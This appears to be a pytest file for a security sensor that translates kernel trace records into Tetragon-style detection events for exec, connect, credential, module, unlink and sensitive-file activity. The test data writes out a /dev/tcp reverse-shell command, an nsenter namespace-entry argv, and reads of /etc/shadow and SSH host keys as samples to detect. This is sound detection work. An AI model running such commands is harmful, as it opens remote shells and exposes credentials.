"""The sensor's new record kinds -> the Tetragon shapes of ``docs/security.md`` (no kernel):
every exec with its kernel argv and its own ``exec_id`` per image (a connect chains to the
image that made it), credential changes, setuid calls, packet sockets, module loads, unlinks,
and the opens the sensitive-files policy posts (secrets read, host paths written)."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import orjson
import yaml

from hpcscope.ingest.security.bpftrace import SensorRecord
from hpcscope.service.security.sensor import bundled_program_path, render_program
from hpcscope.service.security.sensor_calls import SYSCALL_PREFIX, module_name
from hpcscope.service.security.sensor_events import SensorTranslator
from hpcscope.service.security.sensor_procs import CLOCK_TICKS, ProcReader
from hpcscope.service.security.sensor_shapes import TetragonEvent
from hpcscope.service.security.sensor_watch import (
    DEFAULT_CLUSTER_CIDRS,
    DEFAULT_SECRET_PATHS,
    DEFAULT_SHELL_TOOLS,
    DEFAULT_WRITE_PREFIXES,
    SensorWatch,
)
from hpcscope.service.settings import REPO_ROOT


def _proc(root: Path, pid: int, ppid: int, cmdline: str) -> None:
    base = root / str(pid)
    base.mkdir(parents=True)
    (base / "stat").write_text(f"{pid} (x) S {ppid} 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 "
                               f"{CLOCK_TICKS * 5} 0 0\n")  # fmt: skip
    (base / "cmdline").write_text(cmdline.replace(" ", "\0") + "\0")
    (base / "cgroup").write_text("0::/user.slice\n")


def _translator(root: Path, **watch: Any) -> SensorTranslator:
    _proc(root, 50, 1, "sshd: admin")
    watch.setdefault("cluster_cidrs", ("10.0.0.0/8",))
    return SensorTranslator(ProcReader(node="n1", proc_root=root), node="n1",
                            monotonic_to_wall_ns=0, watch=SensorWatch(**watch))  # fmt: skip


def _json(events: Sequence[TetragonEvent]) -> list[dict[str, Any]]:
    return [orjson.loads(orjson.dumps(e)) for e in events]


def _argv(ns: int, tid: int, *args: str) -> list[SensorRecord]:
    text = "\\x00".join(args)
    return [SensorRecord("argv", ns=ns, tid=tid, index=i, data=text[i * 64 : (i + 1) * 64])
            for i in range((len(text) + 63) // 64)]  # fmt: skip


def test_two_images_of_one_process_and_the_connect_of_the_first(tmp_path: Path) -> None:
    """``bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'``: the first bash connects, then
    becomes ``bash -i``; the connect (loopback, posted for a shell) chains to the first."""
    translator = _translator(tmp_path)
    command = "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"
    records = [
        *_argv(10, 60, "bash", "-c", command),
        SensorRecord("exec", ns=10, pid=60, tid=60, uid=0, ppid=50, old_uid=0, old_euid=0,
                     euid=0, length=len(f"bash -c {command} "), path="/usr/bin/bash"),
        SensorRecord("connect", ns=20, pid=60, tid=60, uid=0, ppid=50, family=2, port=4444,
                     sock_type=1, protocol=6, comm="bash", address="127.0.0.1"),
        *_argv(30, 60, "bash", "-i"),
        SensorRecord("exec", ns=30, pid=60, tid=60, uid=0, ppid=50, old_uid=0, old_euid=0,
                     euid=0, length=8, path="/usr/bin/bash"),
    ]  # fmt: skip
    for record in records:  # as the sensor does: observe on arrival, translate later
        translator.observe(record)
    first, connect, second = _json(translator.feed_all(records))
    assert first["process_exec"]["process"]["arguments"] == f"-c {command}"
    assert second["process_exec"]["process"]["arguments"] == "-i"
    ids = [e[k]["process"]["exec_id"] for e, k in zip((first, connect, second),
           ("process_exec", "process_kprobe", "process_exec"), strict=True)]  # fmt: skip
    assert ids[0] == ids[1] != ids[2]
    kprobe = connect["process_kprobe"]
    assert kprobe["function_name"] == "tcp_connect" and kprobe["policy_name"] == "hpcscope-network"
    assert kprobe["args"] == [
        {
            "sock_arg": {
                "family": "AF_INET",
                "type": "SOCK_STREAM",
                "protocol": "IPPROTO_TCP",
                "daddr": "127.0.0.1",
                "dport": 4444,
            }
        }
    ]
    assert first["process_exec"]["process"]["parent_exec_id"] == kprobe["parent"]["exec_id"]


def test_a_forked_shell_connects_as_its_parent_then_becomes_bash_i(tmp_path: Path) -> None:
    """``bash -c 'bash -i >& /dev/tcp/...'`` on bash 5: the redirection makes bash fork; the
    child connects (a clone: its own exec_id, the parent's binary and arguments, its parent
    the ``bash -c`` exec), then execs ``bash -i``."""
    translator = _translator(tmp_path)
    command = "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"
    records = [
        *_argv(10, 60, "bash", "-c", command),
        SensorRecord("exec", ns=10, pid=60, tid=60, uid=0, ppid=50, old_uid=0, old_euid=0,
                     euid=0, length=len(f"bash -c {command} "), path="/usr/bin/bash"),
        SensorRecord("connect", ns=20, pid=61, tid=61, uid=0, ppid=60, family=2, port=4444,
                     sock_type=1, protocol=6, comm="bash", address="127.0.0.1"),
        *_argv(30, 61, "bash", "-i"),
        SensorRecord("exec", ns=30, pid=61, tid=61, uid=0, ppid=60, old_uid=0, old_euid=0,
                     euid=0, length=8, path="/usr/bin/bash"),
    ]  # fmt: skip
    for record in records:
        translator.observe(record)
    first, connect, second = _json(translator.feed_all(records))
    shell = first["process_exec"]["process"]
    clone = connect["process_kprobe"]["process"]
    assert (clone["binary"], clone["arguments"]) == ("/usr/bin/bash", f"-c {command}")
    assert clone["parent_exec_id"] == shell["exec_id"] != clone["exec_id"]
    becomes = second["process_exec"]["process"]
    assert becomes["pid"] == clone["pid"] and becomes["exec_id"] != clone["exec_id"]
    assert becomes["arguments"] == "-i" and becomes["parent_exec_id"] == shell["exec_id"]


def test_a_gone_process_keeps_its_kernel_argv_and_connects_inside_are_not_posted(
    tmp_path: Path,
) -> None:
    translator = _translator(tmp_path)
    nsenter = ("nsenter", "-t", "1", "-m", "-u", "-n", "-i", "-p", "true")
    records = [
        *_argv(10, 70, *nsenter),
        SensorRecord("exec", ns=10, pid=70, tid=70, uid=0, ppid=50, old_uid=0, old_euid=0,
                     euid=0, length=len(" ".join(nsenter)) + 1, path="/usr/bin/nsenter"),
        SensorRecord("connect", ns=11, pid=50, tid=50, uid=0, ppid=1, family=2, port=22,
                     sock_type=1, protocol=6, comm="sshd", address="10.1.1.1"),
    ]  # fmt: skip
    (event,) = _json(translator.feed_all(records))  # pid 70 never was in /proc
    process = event["process_exec"]["process"]
    assert (process["binary"], process["arguments"]) == (
        "/usr/bin/nsenter",
        "-t 1 -m -u -n -i -p true",
    )
    assert translator.stats.skipped_connects == 1


def test_credentials_setuid_sockets_modules_and_unlinks(tmp_path: Path) -> None:
    translator = _translator(tmp_path, protected=("/data/",))
    modules = tmp_path / "sys-module"
    (modules / "hello").mkdir(parents=True)
    (modules / "hello" / "taint").write_text("OE\n")
    translator.sys_module = modules
    records = [
        *_argv(10, 80, "/tmp/x"),
        SensorRecord("exec", ns=10, pid=80, tid=80, uid=65534, ppid=50, old_uid=65534,
                     old_euid=65534, euid=0, length=7, path="/tmp/x"),
        SensorRecord("setuid", ns=11, pid=80, tid=80, uid=65534, ppid=50, call="setuid",
                     ruid=0, euid=-1, suid=-1, comm="x"),
        SensorRecord("creds", ns=12, pid=80, tid=80, uid=0, ppid=50, old_uid=65534,
                     old_euid=0, new_uid=0, euid=0, gid=0, egid=0, comm="x"),
        SensorRecord("socket", ns=13, pid=80, tid=80, uid=0, ppid=50, family=17,
                     sock_type=0o2000000 | 3, protocol=768, comm="x"),
        SensorRecord("module", ns=14, pid=80, tid=80, uid=0, ppid=50, call="finit_module",
                     fd=3, flags=0, comm="insmod", path="hello.ko"),
        SensorRecord("module_done", ns=15, pid=80, tid=80, ret=0),
        SensorRecord("unlink", ns=16, pid=80, tid=80, uid=0, ppid=50, call="unlinkat", fd=-100,
                     flags=0, comm="rm", path="/data/set/shard-0.tar"),
    ]  # fmt: skip
    events = _json(translator.feed_all(records))
    kprobes = [e["process_kprobe"] for e in events if "process_kprobe" in e]
    calls = [(k["function_name"], k["args"], k["process"]["uid"]) for k in kprobes]
    assert calls == [
        ("commit_creds", [{"process_credentials_arg": {"uid": 65534, "euid": 0}}], 65534),
        (f"{SYSCALL_PREFIX}setuid", [{"int_arg": 0}], 65534),
        ("commit_creds", [{"process_credentials_arg": {"uid": 0, "euid": 0, "gid": 0,
                                                       "egid": 0}}], 65534),
        ("security_socket_create", [{"int_arg": 17}, {"int_arg": 3}, {"int_arg": 768},
                                    {"int_arg": 0}], 0),
        (f"{SYSCALL_PREFIX}finit_module", [{"int_arg": 3}, {"int_arg": 0}], 0),
        ("security_kernel_read_file", [{"file_arg": {"path": "hello.ko"}}, {"int_arg": 2}], 0),
        ("do_init_module", [{"module_arg": {"name": "hello", "tainted": [
            "TAINT_OUT_OF_TREE_MODULE", "TAINT_UNSIGNED_MODULE"]}}], 0),
        (f"{SYSCALL_PREFIX}unlinkat", [{"int_arg": -100},
                                       {"string_arg": "/data/set/shard-0.tar"}, {"int_arg": 0}], 0),
    ]  # fmt: skip
    assert all(k["process"]["binary"] == "/tmp/x" for k in kprobes)
    assert module_name("/lib/modules/x/nvidia-uvm.ko.zst") == "nvidia_uvm"


def test_secrets_read_and_host_paths_written_are_posted_the_rest_not(tmp_path: Path) -> None:
    translator = _translator(tmp_path, protected=("/ckpt/",))
    opens = [
        ("/etc/shadow", 0),
        ("/etc/cron.d/job", 0o1101),
        ("/etc/hosts", 0o1101),
        ("/etc/passwd", 0),
        ("/ckpt/model.pt", 0),
        ("/etc/ssh/ssh_host_rsa_key", 0),
    ]
    records = [
        SensorRecord("open", ns=i, pid=50, tid=50, uid=0, ppid=1, fd=3 + i, flags=flags, comm="x",
                     path=path)
        for i, (path, flags) in enumerate(opens)
    ]  # fmt: skip
    events = _json(translator.feed_all(records))
    posted = [(e["process_kprobe"]["args"][0]["file_arg"]["path"],
               e["process_kprobe"]["policy_name"]) for e in events]  # fmt: skip
    assert posted == [
        ("/etc/shadow", "hpcscope-sensitive-files"),
        ("/etc/cron.d/job", "hpcscope-sensitive-files"),
        ("/ckpt/model.pt", "hpcscope-sensor"),
        ("/etc/ssh/ssh_host_rsa_key", "hpcscope-sensitive-files"),
    ]
    assert translator.stats.skipped_opens == 2


def test_the_default_lists_are_the_shipped_policies_selectors() -> None:
    """Without lists in the rules the sensor posts what the shipped policies select."""
    policies = REPO_ROOT / "deploy" / "tetragon"
    files = yaml.safe_load((policies / "hpcscope-sensitive-files.yaml").read_text())
    selectors = files["spec"]["kprobes"][0]["selectors"]
    assert tuple(selectors[0]["matchArgs"][0]["values"]) == DEFAULT_WRITE_PREFIXES
    assert tuple(selectors[1]["matchArgs"][0]["values"]) == DEFAULT_SECRET_PATHS
    network = yaml.safe_load((policies / "hpcscope-network.yaml").read_text())
    connect = network["spec"]["kprobes"][0]["selectors"]
    assert tuple(connect[0]["matchArgs"][0]["values"]) == DEFAULT_CLUSTER_CIDRS
    binaries = connect[1]["matchBinaries"][0]["values"]
    assert tuple(b.lstrip("/") for b in binaries) == DEFAULT_SHELL_TOOLS


def test_the_program_has_one_probe_per_prefix_and_no_module_probe_without_modules() -> None:
    template = bundled_program_path().read_text()
    watch = SensorWatch(protected=("/ckpt/",))
    program = render_program(template, watch=watch, has_syscall=lambda name: "module" not in name)
    assert "// @FOR_EACH" not in program and "// @OPTIONAL" not in program
    for prefix in ("/etc/shadow", "/etc/ssh/ssh_host_", "/dev/infiniband/uverbs"):
        assert program.count(f'strncmp($f, "{prefix}",') == 3  # openat/open, openat2, creat
    assert program.count('strncmp($f, "/ckpt/",') == 3 + 2  # and unlink, unlinkat
    for prefix in ("/etc/", "/usr/", "/root/.ssh/", "/var/spool/cron/"):
        assert program.count(f'strncmp($f, "{prefix}",') == 3
    assert "sys_enter_unlinkat" in program
    assert "sys_enter_finit_module" not in program
    assert "sys_enter_finit_module" in render_program(template, watch=watch,
                                                      has_syscall=lambda name: True)  # fmt: skip
